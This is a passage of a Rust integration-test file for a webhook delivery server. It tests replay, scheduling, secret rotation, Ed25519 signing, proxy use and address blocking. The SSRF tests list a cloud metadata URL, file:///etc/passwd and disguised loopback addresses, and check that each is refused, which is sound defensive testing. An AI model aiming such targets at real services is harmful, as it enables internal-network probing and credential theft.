    assert_eq!(rx.received().len(), seen, "a disabled endpoint was still sent to");

    // Re-enable, fix the receiver, recover: the failed message arrives.
    rx.set_script(|_, _| Reply::Status(200));
    let (status, _) =
        server.call("PATCH", &format!("/api/v1/app/{app}/endpoint/{ep}"), Some(json!({ "disabled": false }))).await;
    assert_eq!(status, 200);
    let (status, out) =
        server.call("POST", &format!("/api/v1/app/{app}/endpoint/{ep}/recover"), Some(json!({ "since": since }))).await;
    assert_eq!(status, 202, "{out}");
    assert_eq!(out["recovered"], 1, "{out}");
    let deadline = Instant::now() + WAIT;
    loop {
        let ok: Vec<_> = rx.received().into_iter().skip(seen).map(|r| r.header("webhook-id").to_string()).collect();
        if ok.contains(&first) {
            // The second message never matched a live endpoint, so it has no delivery to recover.
            assert!(!ok.contains(&second));
            break;
        }
        assert!(Instant::now() < deadline, "recovered message never arrived");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resend_delivers_again_as_a_manual_attempt() {
    let server = Server::start("").await;
    let rx = Receiver::start().await;
    let app = server.create_app("resend").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let msg = server.send_message(&app, "a.b", json!({})).await;
    rx.wait_for(1, WAIT).await;
    let (status, _) = server.call("POST", &format!("/api/v1/app/{app}/msg/{msg}/endpoint/{ep}/resend"), None).await;
    assert_eq!(status, 202);
    let got = rx.wait_for(2, WAIT).await;
    assert_eq!(got[1].header("webhook-id"), msg);
    let attempts = server
        .wait_until(&format!("/api/v1/app/{app}/attempt/msg/{msg}"), WAIT, |b| b["data"].as_array().unwrap().len() == 2)
        .await;
    assert_eq!(attempts["data"][0]["triggerType"], 1);
    assert_eq!(attempts["data"][1]["triggerType"], 0);

    // A disabled endpoint takes no resend, recovery or replay: each would be given up at
    // once and leave the delivered message recorded as failed.
    let (status, _) =
        server.call("PATCH", &format!("/api/v1/app/{app}/endpoint/{ep}"), Some(json!({ "disabled": true }))).await;
    assert_eq!(status, 200);
    let since = json!({ "since": chrono::Utc::now() - chrono::Duration::hours(1) });
    for (path, body) in [
        (format!("/api/v1/app/{app}/msg/{msg}/endpoint/{ep}/resend"), None),
        (format!("/api/v1/app/{app}/endpoint/{ep}/recover"), Some(since.clone())),
        (format!("/api/v1/app/{app}/endpoint/{ep}/replay-missing"), Some(since)),
    ] {
        let (status, body) = server.call("POST", &path, body).await;
        assert_eq!((status, body["code"].as_str()), (409, Some("conflict")), "{path}: {body}");
    }
    settle().await;
    let (_, deliveries) = server.call("GET", &format!("/api/v1/app/{app}/msg/{msg}/endpoint"), None).await;
    assert_eq!(deliveries["data"][0]["status"], 0, "the delivered message stays delivered: {deliveries}");
    assert_eq!(rx.received().len(), 2, "nothing more was sent");
}

/// Svix's bulk replay: the messages an endpoint had in a window go out again, narrowed by
/// event type, delivery status and the class of the last answer; and its attempt counts.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bulk_replay_resends_the_chosen_messages_and_attempt_stats_count_them() {
    let server = Server::start("[delivery]\nretry_schedule = []").await;
    // Message 3 is refused with a 500 every time (no retries: it fails at once).
    let rx = Receiver::scripted(|_, r| Reply::Status(if r.json()["n"] == 3 { 500 } else { 200 })).await;
    let app = server.create_app("bulk-replay").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let since = chrono::Utc::now() - chrono::Duration::seconds(1);
    let m1 = server.send_message(&app, "a.b", json!({ "n": 1 })).await;
    let m2 = server.send_message(&app, "c.d", json!({ "n": 2 })).await;
    let m3 = server.send_message(&app, "a.b", json!({ "n": 3 })).await;
    let stats_path = format!("/api/v1/app/{app}/endpoint/{ep}/attempt-stats");
    let stats = server.wait_until(&stats_path, WAIT, |b| b["success"] == 2 && b["fail"] == 1).await;
    assert_eq!(stats, json!({ "success": 2, "fail": 1, "canceled": 0 }));
    let before = (since - chrono::Duration::hours(1)).to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    let (status, old) = server.call("GET", &format!("{stats_path}?until={}", urlencode(&before)), None).await;
    assert_eq!((status, &old["success"], &old["fail"]), (200, &json!(0), &json!(0)), "nothing that early: {old}");

    let replay = format!("/api/v1/app/{app}/endpoint/{ep}/bulk-replay");
    let (status, task) = server.call("POST", &replay, Some(json!({ "since": since, "eventTypes": ["a.b"] }))).await;
    assert_eq!(status, 202, "{task}");
    assert_eq!(
        (task["task"].as_str(), task["status"].as_str(), &task["replayed"]),
        (Some("endpoint.bulk-replay"), Some("finished"), &json!(2))
    );
    let got = rx.wait_for(5, WAIT).await;
    assert_eq!(ids(&got[3..]), [m1.clone(), m3.clone()].into_iter().collect(), "the two a.b messages, again");
    let stats = server.wait_until(&stats_path, WAIT, |b| b["success"] == 3 && b["fail"] == 2).await;
    assert_eq!(stats["canceled"], 0);

    // By delivery status (failed), then by the class of the last answer (2xx).
    let (status, task) = server.call("POST", &replay, Some(json!({ "since": since, "status": 2 }))).await;
    assert_eq!((status, &task["replayed"]), (202, &json!(1)), "{task}");
    assert_eq!(rx.wait_for(6, WAIT).await[5].header("webhook-id"), m3);
    server.wait_until(&stats_path, WAIT, |b| b["fail"] == 3).await;
    let (status, task) = server.call("POST", &replay, Some(json!({ "since": since, "statusCodeClass": 200 }))).await;
    assert_eq!((status, &task["replayed"]), (202, &json!(2)), "{task}");
    assert_eq!(ids(&rx.wait_for(8, WAIT).await[6..]), [m1.clone(), m2.clone()].into_iter().collect());
    // A window before everything replays nothing.
    let window = json!({ "since": since - chrono::Duration::hours(2), "until": since - chrono::Duration::hours(1) });
    let (status, task) = server.call("POST", &replay, Some(window)).await;
    assert_eq!((status, &task["replayed"]), (202, &json!(0)), "{task}");
    // Svix's "canceled" status: hooklane cancels nothing, so nothing matches.
    let (status, task) = server.call("POST", &replay, Some(json!({ "since": since, "status": 4 }))).await;
    assert_eq!((status, &task["replayed"]), (202, &json!(0)), "{task}");
    settle().await;
    assert_eq!(rx.received().len(), 8, "nothing else was sent");

    // Each replay is a task of its own.
    let (_, tasks) = server.call("GET", "/api/v1/background-task?task=endpoint.bulk-replay", None).await;
    assert_eq!(tasks["data"].as_array().map(Vec::len), Some(5), "{tasks}");
    assert_eq!(tasks["data"][0]["data"]["endpointId"], ep.as_str());

    // A scheduled message of the window is left to its time: a replay does not send it early.
    let later = chrono::Utc::now() + chrono::Duration::hours(1);
    let body = json!({ "eventType": "a.b", "payload": { "n": 9 }, "deliverAt": later });
    let (status, scheduled) = server.call("POST", &format!("/api/v1/app/{app}/msg"), Some(body)).await;
    assert_eq!(status, 202, "{scheduled}");
    let (status, task) = server.call("POST", &replay, Some(json!({ "since": since, "eventTypes": ["a.b"] }))).await;
    assert_eq!((status, &task["replayed"]), (202, &json!(2)), "the two sent ones, not the scheduled one: {task}");
    rx.wait_for(10, WAIT).await;
    settle().await;
    assert!(rx.received().iter().all(|r| r.json()["n"] != 9), "the scheduled message waits for its time");
    // Nor does one that asks for pending deliveries, nor a replay to an endpoint that missed
    // it (which waits for its time too); the message shows its time.
    let (status, task) = server.call("POST", &replay, Some(json!({ "since": since, "status": 1 }))).await;
    assert_eq!((status, &task["replayed"]), (202, &json!(0)), "{task}");
    let scheduled_id = scheduled["id"].as_str().unwrap_or_default();
    let (_, read) = server.call("GET", &format!("/api/v1/app/{app}/msg/{scheduled_id}"), None).await;
    assert_eq!(read["deliverAt"], scheduled["deliverAt"], "{read}");
    assert!(read["deliverAt"].is_string(), "{read}");
    let (late, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let missing = format!("/api/v1/app/{app}/endpoint/{late}/replay-missing");
    let (status, out) = server.call("POST", &missing, Some(json!({ "since": since }))).await;
    assert_eq!((status, &out["replayed"]), (202, &json!(4)), "three sent ones and the scheduled one: {out}");
    rx.wait_for(13, WAIT).await;
    settle().await;
    assert!(rx.received().iter().all(|r| r.json()["n"] != 9), "the scheduled message still waits for its time");
    let (_, deliveries) = server.call("GET", &format!("/api/v1/app/{app}/msg/{scheduled_id}/endpoint"), None).await;
    let statuses: Vec<_> = deliveries["data"].as_array().into_iter().flatten().map(|d| d["status"].clone()).collect();
    assert_eq!(statuses, [json!(1), json!(1)], "both pending: {deliveries}");

    // Bad input, and a disabled endpoint.
    for (body, field) in [
        (json!({ "since": since, "status": 7 }), "status"),
        (json!({ "since": since, "statusCodeClass": 250 }), "statusCodeClass"),
        (json!({ "since": since, "until": since }), "until"),
        (json!({ "since": since, "eventTypes": ["no spaces"] }), "eventTypes"),
    ] {
        let (status, err) = server.call("POST", &replay, Some(body)).await;
        assert_eq!(status, 422, "{err}");
        assert!(err.to_string().contains(field), "{field}: {err}");
    }
    let (status, err) = server.call("POST", &replay, Some(json!({ "until": since }))).await;
    assert_eq!(status, 422, "since is required: {err}");
    let (status, err) = server
        .call("GET", &format!("{stats_path}?since={}&until={}", urlencode(&before), urlencode(&before)), None)
        .await;
    assert_eq!(status, 422, "an empty window: {err}");
    let (status, _) =
        server.call("PATCH", &format!("/api/v1/app/{app}/endpoint/{ep}"), Some(json!({ "disabled": true }))).await;
    assert_eq!(status, 200);
    let (status, err) = server.call("POST", &replay, Some(json!({ "since": since }))).await;
    assert_eq!((status, err["code"].as_str()), (409, Some("conflict")), "{err}");
}

/// Svix's `deliverAt`: a scheduled message is stored and listed at once, and sent at its
/// time, not before; a time already past sends at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scheduled_message_is_sent_at_its_time() {
    let server = Server::start("").await;
    let rx = Receiver::start().await;
    let app = server.create_app("scheduled").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    // Far enough ahead to stay pending through the calls below on a loaded machine.
    let at = chrono::Utc::now() + chrono::Duration::seconds(5);
    let body = json!({ "eventType": "a.b", "payload": { "later": true }, "deliverAt": at });
    let (status, scheduled) = server.call("POST", &format!("/api/v1/app/{app}/msg"), Some(body)).await;
    assert_eq!(status, 202, "{scheduled}");
    // Changing the endpoint makes its paused deliveries due at once: not a scheduled one.
    let (status, _) =
        server.call("PATCH", &format!("/api/v1/app/{app}/endpoint/{ep}"), Some(json!({ "description": "x" }))).await;
    assert_eq!(status, 200);
    let scheduled = scheduled["id"].as_str().unwrap_or_default().to_string();
    let past =
        json!({ "eventType": "a.b", "payload": {}, "deliverAt": chrono::Utc::now() - chrono::Duration::hours(1) });
    let (status, now) = server.call("POST", &format!("/api/v1/app/{app}/msg"), Some(past)).await;
    assert_eq!(status, 202, "{now}");
    assert!(now.get("deliverAt").is_none(), "a time past is no schedule: {now}");
    let first = rx.wait_for(1, WAIT).await;
    assert_eq!(first[0].header("webhook-id"), now["id"].as_str().unwrap_or_default(), "the past one at once");
    let (_, listed) = server.call("GET", &format!("/api/v1/app/{app}/msg/{scheduled}/endpoint"), None).await;
    assert_eq!(listed["data"][0]["status"], 1, "pending meanwhile: {listed}");

    let got = rx.wait_for(2, WAIT).await;
    assert_eq!(got[1].header("webhook-id"), scheduled);
    let sent_at = chrono::Utc::now();
    assert!(sent_at >= at, "sent before its time: {sent_at} < {at}");
    let timestamp: i64 = got[1].header("webhook-timestamp").parse().unwrap_or_default();
    assert!(timestamp >= at.timestamp(), "signed before its time");

    // Too far ahead, or to a FIFO endpoint: refused, nothing stored.
    let far =
        json!({ "eventType": "a.b", "payload": {}, "deliverAt": chrono::Utc::now() + chrono::Duration::days(31) });
    let (status, err) = server.call("POST", &format!("/api/v1/app/{app}/msg"), Some(far)).await;
    assert_eq!(status, 422, "{err}");
    assert!(err.to_string().contains("deliverAt"), "{err}");
    let lane_app = server.create_app("scheduled-fifo").await;
    server.create_endpoint(&lane_app, json!({ "url": rx.url, "ordering": "fifo" })).await;
    let lane =
        json!({ "eventType": "a.b", "payload": {}, "deliverAt": chrono::Utc::now() + chrono::Duration::hours(1) });
    let (status, err) = server.call("POST", &format!("/api/v1/app/{lane_app}/msg"), Some(lane)).await;
    assert_eq!(status, 422, "{err}");
    assert!(err.to_string().contains("FIFO"), "{err}");
    let (_, msgs) = server.call("GET", &format!("/api/v1/app/{lane_app}/msg"), None).await;
    assert_eq!(msgs["data"].as_array().map(Vec::len), Some(0), "nothing stored: {msgs}");
}

fn urlencode(s: &str) -> String {
    s.replace('+', "%2B").replace(':', "%3A")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rotated_secret_keeps_signing_beside_the_new_one() {
    let server = Server::start("").await;
    let rx = Receiver::start().await;
    let app = server.create_app("rotate").await;
    let (ep, old) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let new = "whsec_bmV3LXNlY3JldC1uZXctc2VjcmV0LW5ldy1zZWNyZXQ=";
    let (status, _) = server
        .call("POST", &format!("/api/v1/app/{app}/endpoint/{ep}/secret/rotate"), Some(json!({ "key": new })))
        .await;
    assert_eq!(status, 200);
    let (_, current) = server.call("GET", &format!("/api/v1/app/{app}/endpoint/{ep}/secret"), None).await;
    assert_eq!(current["key"], new);
    server.send_message(&app, "a.b", json!({})).await;
    let got = rx.wait_for(1, WAIT).await;
    assert_eq!(got[0].header("webhook-signature").split(' ').count(), 2);
    assert!(signature_valid(new, &got[0]));
    assert!(signature_valid(&old, &got[0]));

    // With no grace period (Svix's `gracePeriodSeconds: 0`) only the new secret signs;
    // secrets still within an earlier grace period keep signing.
    let newest = "whsec_bmV3ZXN0LW5ld2VzdC1uZXdlc3QtbmV3ZXN0LW5ld2VzdA==";
    let (status, body) = server
        .call(
            "POST",
            &format!("/api/v1/app/{app}/endpoint/{ep}/secret/rotate"),
            Some(json!({ "key": newest, "gracePeriodSeconds": 0 })),
        )
        .await;
    assert_eq!((status, &body["key"]), (200, &json!(newest)), "{body}");
    server.send_message(&app, "a.b", json!({})).await;
    let got = rx.wait_for(2, WAIT).await;
    let signatures = got[1].header("webhook-signature");
    assert_eq!(signatures.split(' ').count(), 2, "{signatures}");
    assert!(signature_valid(newest, &got[1]));
    assert!(signature_valid(&old, &got[1]), "the first rotation's grace period still runs");
    assert!(!signature_valid(new, &got[1]), "rotated away without grace");
}

/// The Ed25519 key pair of the signing module's vectors (made with Python's `cryptography`).
const KEY_PAIR: &str = "whsk_AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyB5tVYuj+ZU+UB4sRLoqYunkB+FOuaVvtfg45ELrQSWZA==";
const PUBLIC_KEY: &str = "whpk_ebVWLo/mVPlAeLES6KmLp5AfhTrmlb7X4OORC60ElmQ=";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_ed25519_endpoint_signs_v1a_and_shows_only_its_public_key() {
    let server = Server::start("").await;
    let rx = Receiver::start().await;
    let app = server.create_app("asymmetric").await;
    let (ep, shown) = server.create_endpoint(&app, json!({ "url": rx.url, "secret": KEY_PAIR })).await;
    assert_eq!(shown, PUBLIC_KEY, "the secret key never leaves hooklane");
    server.send_message(&app, "a.b", json!({"n": 1})).await;
    let got = rx.wait_for(1, WAIT).await;
    let signature = got[0].header("webhook-signature");
    assert!(signature.starts_with("v1a,") && !signature.contains(' '), "{signature}");
    assert!(ed25519_signature_valid(PUBLIC_KEY, &got[0]), "{signature}");
    // Another key does not check it.
    let (_, other) = server.create_endpoint(&app, json!({ "url": rx.url, "secret": "whsk_AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=", "filterTypes": ["other"] })).await;
    assert_ne!(other, PUBLIC_KEY);
    assert!(!ed25519_signature_valid(&other, &got[0]));

    // A rotation without a key makes a new key pair: answered, and shown, as its public
    // key; the old pair signs beside it for the grace period.
    let path = format!("/api/v1/app/{app}/endpoint/{ep}/secret");
    let (status, rotated) = server.call("POST", &format!("{path}/rotate"), None).await;
    assert_eq!(status, 200, "{rotated}");
    let new = rotated["key"].as_str().expect("key").to_string();
    assert!(new.starts_with("whpk_") && new != PUBLIC_KEY, "{new}");
    assert_eq!(server.call("GET", &path, None).await.1["key"], json!(new));
    // Then to a symmetric secret: each receiver's key checks its own kind of signature.
    let hmac = "whsec_bmV3LXNlY3JldC1uZXctc2VjcmV0LW5ldy1zZWNyZXQ=";
    let (status, body) = server.call("POST", &format!("{path}/rotate"), Some(json!({ "key": hmac }))).await;
    assert_eq!((status, &body["key"]), (200, &json!(hmac)), "{body}");
    server.send_message(&app, "a.b", json!({"n": 2})).await;
    let got = rx.wait_for(2, WAIT).await;
    let last = got.iter().find(|r| r.json()["n"] == 2).expect("second message");
    let signatures = last.header("webhook-signature");
    assert_eq!(signatures.split(' ').count(), 3, "{signatures}");
    assert_eq!(signatures.split(' ').filter(|s| s.starts_with("v1a,")).count(), 2, "{signatures}");
    assert!(signature_valid(hmac, last));
    assert!(ed25519_signature_valid(&new, last));
    assert!(ed25519_signature_valid(PUBLIC_KEY, last));

    // A public key cannot sign; malformed keys are refused where they are given.
    for (bad, says) in [(PUBLIC_KEY, "public key"), ("whsk_AAAA", "whsk_"), ("whpk_AAAA", "public key")] {
        let (status, body) = server
            .call("POST", &format!("/api/v1/app/{app}/endpoint"), Some(json!({ "url": rx.url, "secret": bad })))
            .await;
        assert_eq!(status, 422, "{bad}: {body}");
        assert_eq!(body["detail"][0]["loc"], json!(["body", "secret"]), "{body}");
        assert!(body["detail"][0]["msg"].as_str().unwrap_or("").contains(says), "{body}");
        let (status, body) = server.call("POST", &format!("{path}/rotate"), Some(json!({ "key": bad }))).await;
        assert_eq!((status, &body["detail"][0]["loc"]), (422, &json!(["body", "key"])), "{body}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn default_signature_type_ed25519_gives_new_endpoints_key_pairs() {
    let server = Server::start("default_signature_type = \"ed25519\"").await;
    let rx = Receiver::start().await;
    let app = server.create_app("ed25519-default").await;
    let (ep, public) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    assert!(public.starts_with("whpk_"), "{public}");
    // A given symmetric secret is still taken as it is.
    let hmac = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
    let (_, shown) =
        server.create_endpoint(&app, json!({ "url": rx.url, "secret": hmac, "filterTypes": ["other"] })).await;
    assert_eq!(shown, hmac);
    server.send_message(&app, "a.b", json!({})).await;
    let got = rx.wait_for(1, WAIT).await;
    assert!(ed25519_signature_valid(&public, &got[0]));
    assert!(got[0].header("webhook-signature").starts_with("v1a,"));
    // Rotating keeps the endpoint's kind.
    let (status, rotated) =
        server.call("POST", &format!("/api/v1/app/{app}/endpoint/{ep}/secret/rotate"), Some(json!({}))).await;
    assert_eq!(status, 200);
    assert!(rotated["key"].as_str().is_some_and(|k| k.starts_with("whpk_") && k != public), "{rotated}");

    // A setting that is neither kind stops the server at start.
    let dir = tempfile::tempdir().expect("tempdir");
    let config = dir.path().join("bad.toml");
    std::fs::write(&config, "default_signature_type = \"rsa\"\n").expect("config");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_hooklane"))
        .args(["--config", config.to_str().expect("path"), "serve"])
        .output()
        .expect("run");
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("default_signature_type"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn loopback_and_private_targets_are_refused_without_allow_list() {
    let server = Server::start("[delivery]\nallow_networks = []\nretry_schedule = []").await;
    let rx = Receiver::start().await;
    let app = server.create_app("ssrf").await;
    let port = rx.url.rsplit(':').next().unwrap().to_string();
    let targets = [
        rx.url.clone(),
        format!("http://localhost:{port}"),
        format!("http://[::ffff:127.0.0.1]:{port}"),
        format!("http://2130706433:{port}"),
    ];
    for url in &targets {
        server.create_endpoint(&app, json!({ "url": url })).await;
    }
    let msg = server.send_message(&app, "a.b", json!({})).await;
    let attempts = server
        .wait_until(&format!("/api/v1/app/{app}/attempt/msg/{msg}"), WAIT, |b| {
            b["data"].as_array().unwrap().len() == targets.len()
        })
        .await;
    for a in attempts["data"].as_array().unwrap() {
        assert_eq!(a["responseStatusCode"], 0, "{a}");
        assert!(a["response"].as_str().unwrap().contains("not allowed"), "{a}");
    }
    settle().await;
    assert!(rx.received().is_empty(), "a refused address was contacted");
}

/// A forward proxy on loopback, as an egress proxy would be: it takes absolute-form requests
/// (`POST http://host:port/path`), records each target and `Proxy-Authorization`, answers
/// 407 when it wants credentials and has not got them, and sends the rest on, resolving
/// `receiver.invalid` (a name only it knows, as with split DNS) to the given address.
struct ForwardProxy {
    url: String,
    seen: std::sync::Arc<std::sync::Mutex<Vec<(String, String)>>>,
}

impl ForwardProxy {
    async fn start(receiver: std::net::SocketAddr, credentials: Option<&str>) -> ForwardProxy {
        use axum::body::Body;
        use axum::extract::Request;
        use axum::response::Response;
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let client =
            reqwest::Client::builder().no_proxy().resolve("receiver.invalid", receiver).build().expect("client");
        let wanted = credentials.map(|c| format!("Basic {}", B64.encode(c)));
        let record = seen.clone();
        let app = axum::Router::new().fallback(move |req: Request| {
            let (client, record, wanted) = (client.clone(), record.clone(), wanted.clone());
            async move {
                let auth =
                    req.headers().get("proxy-authorization").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
                let target = req.uri().to_string();
                record.lock().unwrap().push((target.clone(), auth.clone()));
                if wanted.is_some_and(|w| w != auth) {
                    return Response::builder().status(407).body(Body::from("proxy login needed at 10.9.8.7")).unwrap();
                }
                let mut out = client.request(req.method().clone(), &target);
                for (name, value) in req.headers() {
                    if !matches!(name.as_str(), "host" | "proxy-authorization" | "connection" | "content-length") {
                        out = out.header(name, value);
                    }
                }
                let body = axum::body::to_bytes(req.into_body(), 1 << 20).await.unwrap_or_default();
                match out.body(body).send().await {
                    Ok(answer) => {
                        let status = answer.status();
                        let bytes = answer.bytes().await.unwrap_or_default();
                        Response::builder().status(status).body(Body::from(bytes)).unwrap()
                    }
                    Err(e) => Response::builder().status(502).body(Body::from(e.to_string())).unwrap(),
                }
            }
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
        let url = format!("http://{}", listener.local_addr().expect("addr"));
        tokio::spawn(async move { axum::serve(listener, app).await });
        ForwardProxy { url, seen }
    }

    fn targets(&self) -> Vec<(String, String)> {
        self.seen.lock().unwrap().clone()
    }
}

/// The attempts of `msg` once there are `n`.
async fn attempts_of(server: &Server, app: &str, msg: &str, n: usize) -> Vec<serde_json::Value> {
    let path = format!("/api/v1/app/{app}/attempt/msg/{msg}");
    let body = server.wait_until(&path, WAIT, |b| b["data"].as_array().is_some_and(|a| a.len() >= n)).await;
    body["data"].as_array().cloned().unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deliveries_go_through_the_configured_proxy() {
    let rx = Receiver::start().await;
    let rx_addr: std::net::SocketAddr = rx.url.trim_start_matches("http://").parse().expect("receiver address");
    let port = rx_addr.port();
    let guarded = ForwardProxy::start(rx_addr, Some("hook:s3cret")).await;

    // Loopback allowed (the base config): the receiver's own address, through the proxy,
    // with the proxy's credentials; a name that does not resolve here is refused.
    let with_credentials = guarded.url.replace("http://", "http://hook:s3cret@");
    let server = Server::start(&format!("[delivery]\nretry_schedule = []\nproxy = \"{with_credentials}\"")).await;
    let app = server.create_app("proxied").await;
    let (_, secret) =
        server.create_endpoint(&app, json!({ "url": format!("{}/direct", rx.url), "filterTypes": ["a.b"] })).await;
    let unknown = format!("http://receiver.invalid:{port}/split");
    server.create_endpoint(&app, json!({ "url": unknown, "filterTypes": ["split"] })).await;
    server.send_message(&app, "a.b", json!({"n": 1})).await;
    let got = rx.wait_for(1, WAIT).await;
    assert_eq!(got[0].path, "/direct");
    assert!(signature_valid(&secret, &got[0]));
    let seen = guarded.targets();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].0, format!("{}/direct", rx.url), "an absolute-form request to the proxy");
    assert_eq!(seen[0].1, format!("Basic {}", B64.encode("hook:s3cret")));
    let split = server.send_message(&app, "split", json!({})).await;
    let attempts = attempts_of(&server, &app, &split, 1).await;
    assert!(attempts[0]["response"].as_str().unwrap().contains("does not resolve here"), "{attempts:?}");
    let logs = server.logs();
    assert!(
        !logs.contains("s3cret") && !logs.contains(&B64.encode("hook:s3cret")),
        "the proxy's password is not logged"
    );
    drop(server);

    // Wrong credentials: the proxy's 407 is the attempt's failure, not the receiver's answer.
    let wrong = guarded.url.replace("http://", "http://hook:wrong@");
    let server = Server::start(&format!("[delivery]\nretry_schedule = []\nproxy = \"{wrong}\"")).await;
    let app = server.create_app("refused").await;
    server.create_endpoint(&app, json!({ "url": format!("{}/direct", rx.url) })).await;
    let msg = server.send_message(&app, "a.b", json!({})).await;
    let attempts = attempts_of(&server, &app, &msg, 1).await;
    assert_eq!(attempts[0]["responseStatusCode"], 0, "{attempts:?}");
    let response = attempts[0]["response"].as_str().unwrap();
    assert!(response.contains("407") && !response.contains("10.9.8.7"), "{response}");
    drop(server);

    // Nothing allowed beyond public addresses, the proxy named `localhost` (which the policy
    // refuses: the operator's choice is reached all the same), names left to the proxy: a
    // receiver whose name resolves here to loopback (however written), or a loopback
    // address, is refused before the proxy sees it; a name only the proxy resolves goes.
    let open = ForwardProxy::start(rx_addr, None).await;
    let by_name = open.url.replace("127.0.0.1", "localhost");
    let server = Server::start(&format!(
        "[delivery]\nallow_networks = []\nretry_schedule = []\nproxy = \"{by_name}\"\nproxy_resolves_names = true"
    ))
    .await;
    let app = server.create_app("guarded").await;
    let refused = [
        format!("http://localhost:{port}/named"),
        format!("http://LOCALHOST.:{port}/dotted"),
        format!("http://127.0.0.1:{port}/literal"),
    ];
    for url in &refused {
        server.create_endpoint(&app, json!({ "url": url, "filterTypes": ["refused"] })).await;
    }
    let (_, secret) = server.create_endpoint(&app, json!({ "url": unknown, "filterTypes": ["split"] })).await;
    let msg = server.send_message(&app, "refused", json!({})).await;
    for a in attempts_of(&server, &app, &msg, refused.len()).await {
        assert_eq!(a["responseStatusCode"], 0, "{a}");
        assert!(a["response"].as_str().unwrap().contains("not allowed"), "{a}");
    }
    server.send_message(&app, "split", json!({"n": 2})).await;
    let got = rx.wait_for(2, WAIT).await;
    assert_eq!(got[1].path, "/split");
    assert!(signature_valid(&secret, &got[1]));
    settle().await;
    let seen = open.targets();
    assert_eq!(seen.len(), 1, "the refused receivers never reached the proxy: {seen:?}");
    assert_eq!(seen[0].0, unknown);
    assert_eq!(rx.received().len(), 2);
    drop(server);

    // Without the setting no proxy is used, whatever the environment says.
    let env = [("HTTP_PROXY", open.url.as_str()), ("http_proxy", open.url.as_str()), ("ALL_PROXY", open.url.as_str())];
    let server = Server::start_with_env("", &env).await;
    let app = server.create_app("direct").await;
    server.create_endpoint(&app, json!({ "url": format!("{}/straight", rx.url) })).await;
    server.send_message(&app, "a.b", json!({})).await;
    let got = rx.wait_for(3, WAIT).await;
    assert_eq!(got[2].path, "/straight");
    assert_eq!(open.targets().len(), 1, "the environment's proxy was not used");

    // A proxy that is no http(s) URL stops the server at start, without echoing the value.
    let dir = tempfile::tempdir().expect("tempdir");
    let config = dir.path().join("bad.toml");
    for bad in [
        "socks5://user:hunter2@127.0.0.1:1080",
        "http://user:hunter2@127.0.0.1:3128/path",
        "http://user:hunter2@127.0.0.1:3128#x",
    ] {
        std::fs::write(&config, format!("[delivery]\nproxy = \"{bad}\"\n")).expect("config");
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_hooklane"))
            .args(["--config", config.to_str().expect("path"), "serve"])
            .output()
            .expect("run");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{bad}");
        assert!(stderr.contains("delivery.proxy") && !stderr.contains("hunter2"), "{stderr}");
    }
}

/// An endpoint's transformation may change the URL, but not past the address checks: the
/// URL it makes is refused as an endpoint's own would be.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transformation_cannot_reach_refused_addresses() {
    let server = Server::start("[delivery]\nretry_schedule = [\"50ms\"]").await;
    let rx = Receiver::start().await;
    let app = server.create_app("ssrf-script").await;
    let port = rx.url.rsplit(':').next().unwrap().to_string();
    let targets = [
        ("http://169.254.169.254/latest/meta-data".to_string(), "not allowed"),
        (format!("http://[::1]:{port}/"), "not allowed"),
        ("file:///etc/passwd".to_string(), "must be http or https"),
        ("not a url".to_string(), "not valid"),
    ];
    for (target, _) in &targets {
        let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
        let code = format!("function handler(w) {{ w.url = {}; return w }}", json!(target));
        let (status, body) = server
            .call(
                "PATCH",
                &format!("/api/v1/app/{app}/endpoint/{ep}/transformation"),
                Some(json!({ "code": code, "enabled": true })),
            )
            .await;
        assert_eq!(status, 204, "{body}");
    }
    let msg = server.send_message(&app, "a.b", json!({})).await;
    // The refused addresses are retried as an endpoint's own would be (2 attempts each);
    // bad URLs are not (1 each).
    let attempts = server
        .wait_until(&format!("/api/v1/app/{app}/attempt/msg/{msg}"), WAIT, |b| b["data"].as_array().unwrap().len() >= 6)
        .await;
    let responses: Vec<&str> =
        attempts["data"].as_array().unwrap().iter().map(|a| a["response"].as_str().unwrap()).collect();
    for (target, why) in &targets {
        assert!(responses.iter().any(|r| r.contains(why)), "{target}: {responses:?}");
    }
    // And no more: a retry of a bad URL would have come 50 ms after its attempt.
    settle().await;
    let attempts = server.call("GET", &format!("/api/v1/app/{app}/attempt/msg/{msg}"), None).await.1;
    assert_eq!(attempts["data"].as_array().unwrap().len(), 6, "{attempts}");
    assert!(rx.received().is_empty(), "a refused address was contacted");
}

/// Code that hides its work in a built-in function QuickJS does not interrupt (a naive
/// search of a long needle in a long string) cannot hold the server: its worker process is
/// killed at the deadline, the delivery fails saying so, and the next run gets a new worker.
